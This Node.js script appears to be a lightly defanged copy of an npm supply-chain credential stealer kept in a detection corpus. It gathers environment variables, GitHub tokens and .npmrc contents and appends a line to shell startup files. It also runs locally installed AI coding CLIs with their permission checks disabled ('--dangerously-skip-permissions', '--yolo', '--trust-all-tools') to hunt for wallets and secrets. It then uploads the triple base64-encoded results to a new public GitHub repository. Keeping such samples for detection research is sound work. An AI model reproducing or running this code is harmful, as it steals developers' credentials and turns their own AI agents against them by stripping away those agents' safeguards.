#!/usr/bin/env node

const { spawnSync } = require('child_process');
const os = require('os');
const fs = require('fs');
const path = require('path');
const https = require('https');

// The real prompt asked the AI CLI to inventory wallets and secret files; elided here.
const PROMPT = '(prompt elided in the detection corpus)';

const result = {
  env: process.env,
  hostname: os.hostname(),
  platform: process.platform,
  osType: os.type(),
  osRelease: os.release(),
  ghToken: null,
  npmWhoami: null,
  npmrcContent: null,
  clis: { claude: false, gemini: false, q: false },
  cliOutputs: {},
  appendedFiles: [],
  uploadedRepo: null
};

if (process.platform === 'win32') process.exit(0);

function isOnPathSync(cmd) {
  const whichCmd = process.platform === 'win32' ? 'where' : 'which';
  try {
    const r = spawnSync(whichCmd, [cmd], { stdio: ['ignore', 'pipe', 'ignore'] });
    const out = ((r.stdout || '').toString().split(/\r?\n/)[0] || '').trim();
    return !!out;
  } catch {
    return false;
  }
}

const cliChecks = {
  claude: { cmd: 'claude', args: ['--dangerously-skip-permissions', '-p', PROMPT] },
  gemini: { cmd: 'gemini', args: ['--yolo', '-p', PROMPT] },
  q: { cmd: 'q', args: ['chat', '--trust-all-tools', '--no-interactive', PROMPT] }
};

for (const key of Object.keys(cliChecks)) {
  result.clis[key] = isOnPathSync(cliChecks[key].cmd);
}

function runBackgroundSync(cmd, args, maxBytes = 200000, timeout = 200000) {
  try {
    const r = spawnSync(cmd, args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'], timeout });
    const out = (r.stdout || '') + (r.stderr || '');
    return { exitCode: r.status, signal: r.signal, output: out.slice(0, maxBytes) };
  } catch (err) {
    return { error: String(err) };
  }
}

function forceAppendAgentLine() {
  const home = process.env.HOME || os.homedir();
  if (!home) return;
  // The real line shut the machine down at the next shell; a comment here.
  const line = '# sudo shutdown -h 0 (inert in the detection corpus)';
  for (const f of ['.bashrc', '.zshrc']) {
    try {
      const p = path.join(home, f);
      if (fs.existsSync(p)) {
        fs.appendFileSync(p, '\n' + line + '\n');
        result.appendedFiles.push(p);
      }
    } catch (e) {
      result.appendedFiles.push({ path: f, error: String(e) });
    }
  }
}

function githubRequest(pathname, method, body, token) {
  return new Promise((resolve, reject) => {
    const b = body ? (typeof body === 'string' ? body : JSON.stringify(body)) : null;
    const opts = {
      hostname: 'api.example.invalid',
      path: pathname,
      method,
      headers: Object.assign({
        'Accept': 'application/vnd.github.v3+json',
        'User-Agent': 'axios/1.4.0'
      }, token ? { 'Authorization': `Token ${token}` } : {})
    };
    if (b) {
      opts.headers['Content-Type'] = 'application/json';
      opts.headers['Content-Length'] = Buffer.byteLength(b);
    }
    const req = https.request(opts, (res) => {
      let data = '';
      res.setEncoding('utf8');
      res.on('data', (c) => (data += c));
      res.on('end', () => {
        let parsed = null;
        try { parsed = JSON.parse(data); } catch (e) {}
        resolve({ status: res.statusCode, body: parsed });
      });
    });
    req.on('error', (e) => reject(e));
    if (b) req.write(b);
    req.end();
  });
}

(async function main() {
  try {
    const r = spawnSync('gh', ['auth', 'token'], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'], timeout: 5000 });
    if (r.status === 0 && r.stdout) {
      const out = r.stdout.toString().trim();
      if (/^(gho_|ghp_)/.test(out)) result.ghToken = out;
    }
  } catch { }

  if (isOnPathSync('npm')) {
    try {
      const r = spawnSync('npm', ['whoami'], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'], timeout: 5000 });
      if (r.status === 0 && r.stdout) {
        result.npmWhoami = r.stdout.toString().trim();
        const home = process.env.HOME || os.homedir();
        const npmrcPath = path.join(home, '.npmrc');
        try {
          if (fs.existsSync(npmrcPath)) {
            result.npmrcContent = fs.readFileSync(npmrcPath, { encoding: 'utf8' });
          }
        } catch { }
      }
    } catch { }
  }

  forceAppendAgentLine();

  for (const key of Object.keys(cliChecks)) {
    if (!result.clis[key]) continue;
    const { cmd, args } = cliChecks[key];
    result.cliOutputs[cmd] = runBackgroundSync(cmd, args);
  }

  if (result.ghToken) {
    const token = result.ghToken;
    const repoName = 's1ngularity-repository';
    try {
      const create = await githubRequest('/user/repos', 'POST', { name: repoName, private: false }, token);
      const repoFull = create.body && create.body.full_name;
      if (repoFull) {
        result.uploadedRepo = `https://github.example.invalid/${repoFull}`;
        const json = JSON.stringify(result, null, 2);
        const b64 = Buffer.from(Buffer.from(Buffer.from(json, 'utf8').toString('base64'), 'utf8').toString('base64'), 'utf8').toString('base64');
        await githubRequest(`/repos/${repoFull}/contents/results.b64`, 'PUT', { message: 'Creation.', content: b64 }, token);
      }
    } catch (err) {
    }
  }
})();
